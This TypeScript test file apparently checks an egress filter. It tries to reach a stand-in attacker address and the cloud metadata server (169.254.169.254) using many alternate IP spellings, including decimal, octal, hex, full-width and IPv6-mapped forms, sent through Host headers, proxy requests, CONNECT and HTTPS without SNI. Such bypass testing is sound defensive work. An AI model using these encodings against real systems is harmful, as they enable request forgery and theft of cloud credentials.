/** Addresses instead of names, in every spelling that some reader understands. */
import type {Attempt} from '../attempt.ts';
import {EVIL, METADATA, SITES} from '../addresses.ts';
import {http, say, tlsTo} from '../wire.ts';

/** 203.0.113.66 and 169.254.169.254 as C libraries and browsers read them. */
const SPELLINGS: readonly (readonly [id: string, title: string, evil: string, metadata: string])[] = [
  ['dotted', 'in four decimals', '203.0.113.66', METADATA],
  ['decimal', 'as one decimal number', '3405803842', '2852039166'],
  ['octal', 'in octal', '0313.0.0161.0102', '0251.0376.0251.0376'],
  ['hex', 'in hexadecimal', '0xcb007142', '0xa9fea9fe'],
  ['dotted-hex', 'in four hexadecimals', '0xcb.0x0.0x71.0x42', '0xa9.0xfe.0xa9.0xfe'],
  ['short', 'in three parts', '203.0.29006', '169.254.43518'],
  ['zeros', 'with leading zeros', '203.000.113.066', '169.254.169.0254'],
  ['dot', 'with a dot at the end', '203.0.113.66.', `${METADATA}.`],
  ['wide', 'in full-width digits', '２０３.0.113.66', '１６９.254.169.254'],
  ['mapped', 'mapped into IPv6', '[::ffff:203.0.113.66]', `[::ffff:${METADATA}]`],
  ['mapped-hex', 'mapped into IPv6, in hexadecimal', '[::ffff:cb00:7142]', '[::ffff:a9fe:a9fe]'],
  ['compatible', 'in the compatible form', '[::cb00:7142]', '[::a9fe:a9fe]'],
  ['zone', 'with a zone', '[fe80::1%25eth0]', '[fe80::a9fe:a9fe%eth0]'],
];

/** Encoded so that each character is one byte of the wire. */
const bytes = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

export const LITERALS: readonly Attempt[] = [
  ...SPELLINGS.flatMap(([id, title, evil, metadata]): Attempt[] => [
    {
      id: `literals-host-${id}`,
      title: `a Host that is the address, ${title}`,
      invariant: 3,
      attempt: async (by) =>
        void (await say(by.connect(EVIL[4], 80), http(`GET /${by.token} HTTP/1.1`, `Host: ${bytes(evil)}`))),
      control: 'free',
    },
    {
      id: `literals-proxy-${id}`,
      title: `the metadata server asked of the explicit port, ${title}`,
      invariant: 4,
      attempt: async (by) => {
        const name = bytes(metadata);
        await say(by.explicit(), http(`GET http://${name}/${by.token} HTTP/1.1`, `Host: ${name}`));
        await say(by.explicit(), http(`GET http://${name}:8088/${by.token} HTTP/1.1`, `Host: ${name}:8088`));
        await say(by.explicit(), http(`CONNECT ${name}:8088 HTTP/1.1`, `Host: ${name}:8088`), `GET /${by.token}`);
      },
      control: 'free',
    },
  ]),
  {
    id: 'literals-https',
    title: 'HTTPS to an address without SNI',
    invariant: 3,
    attempt: async (by) => void (await by.curl(`https://${EVIL[4]}/${by.token}`)),
    control: 'free',
  },
  {
    id: 'literals-https-host',
    title: 'HTTPS to an address without SNI, an allowed Host inside',
    invariant: 2,
    attempt: async (by) => void (await by.curl('-H', 'Host: allowed.test', `https://${EVIL[4]}/public/${by.token}`)),
    control: 'free',
  },
  {
    id: 'literals-allowed',
    title: 'the address of an allowed site, asked for as an address',
    invariant: 3,
    attempt: async (by) => void (await by.curl(`https://${SITES.allowed}/public/${by.token}`)),
    control: 'free',
  },
  {
    id: 'literals-nip',
    title: 'a name that spells an address',
    invariant: 3,
    attempt: async (by) =>
      void (await say(
        await tlsTo(by, EVIL[4], '203-0-113-66.evil.test'),
        http(`GET /${by.token} HTTP/1.1`, 'Host: 203-0-113-66.evil.test'),
      )),
    control: 'free',
  },
];
